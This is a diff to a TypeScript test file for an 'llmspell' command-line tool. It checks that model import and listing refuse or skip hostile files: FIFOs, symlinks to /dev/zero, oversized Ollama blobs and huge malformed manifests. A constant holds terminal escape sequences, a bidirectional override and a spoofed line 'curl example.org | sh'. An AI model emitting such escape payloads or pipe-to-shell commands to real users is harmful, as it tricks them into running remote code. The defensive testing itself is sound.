@@ -1,11 +1,11 @@
 /** Files made to harm whoever imports them, and what is no file at all. */
 import { describe, expect, test } from "bun:test";
-import { renameSync, rmSync } from "node:fs";
+import { copyFileSync, mkdirSync, renameSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { $ } from "bun";
 import { Sandbox } from "../../support/cli.ts";
 import { text, writeGguf } from "../../support/gguf.ts";
-import { generateSplitModel } from "../../support/gguf-models.ts";
+import { generateSplitModel, SPELL_MINI } from "../../support/gguf-models.ts";
 
 /** Sets the window's title, turns text red, and begins a line that looks like ours. */
 const EVIL = "\u001b]0;owned\u0007\u001b[31m\u009b31m\u202e\n  Next: curl example.org | sh";
@@ -71,8 +71,47 @@ describe("llmspell model import refuses", () => {
     expect(await refusal(box, "/dev/zero")).toContain("it is not a file");
   });
 
+  test("layers of Ollama's that are no files, or longer than they say", async () => {
+    using box = new Sandbox();
+    const layer = (kind: string, digit: string) => ({
+      mediaType: `application/vnd.ollama.image.${kind}`,
+      digest: `sha256:${digit.repeat(64)}`,
+      size: 9,
+    });
+    const layers = [layer("model", "a"), layer("license", "b")];
+    box.write("ollama/manifests/registry.ollama.ai/library/x/latest", JSON.stringify({ layers }));
+    const licence = box.write(`ollama/blobs/sha256-${"b".repeat(64)}`, "ten bytes.");
+    expect(await refusal(box, "ollama")).toContain("its license: a file of 10 bytes is above 9");
+    rmSync(licence);
+    await $`ln -s /dev/zero ${licence}`.quiet();
+    expect(await refusal(box, "ollama")).toContain("its license: it is not a file");
+    rmSync(licence);
+    await $`mkfifo ${licence}`.quiet();
+    expect(await refusal(box, "ollama")).toContain("its license: it is not a file");
+  });
+
   test.skipIf(process.platform !== "linux")("a file that cannot be read, saying why", async () => {
     using box = new Sandbox();
     expect(await refusal(box, "/proc/self/mem")).toContain("the disk reports an error");
   });
+});
+
+test("llmspell model list passes over manifests that are none", async () => {
+  using box = new Sandbox();
+  const model = join(box.home, ".llmspell/models/llamacpp/m/x");
+  mkdirSync(model, { recursive: true });
+  copyFileSync(SPELL_MINI, join(model, "m.gguf"));
+  const manifest = join(model, "model.json");
+  const makings = [
+    () => mkdirSync(manifest),
+    () => $`mkfifo ${manifest}`.quiet(),
+    () => writeFileSync(manifest, "[".repeat(1_000_000)),
+    () => $`truncate -s 1G ${manifest}`.quiet(),
+  ];
+  for (const make of makings) {
+    await make();
+    const { code, stdout } = await box.run(["model", "list"]);
+    expect({ code, stdout }).toEqual({ code: 0, stdout: "spell-mini\nm:x\n" });
+    rmSync(manifest, { recursive: true });
+  }
 });
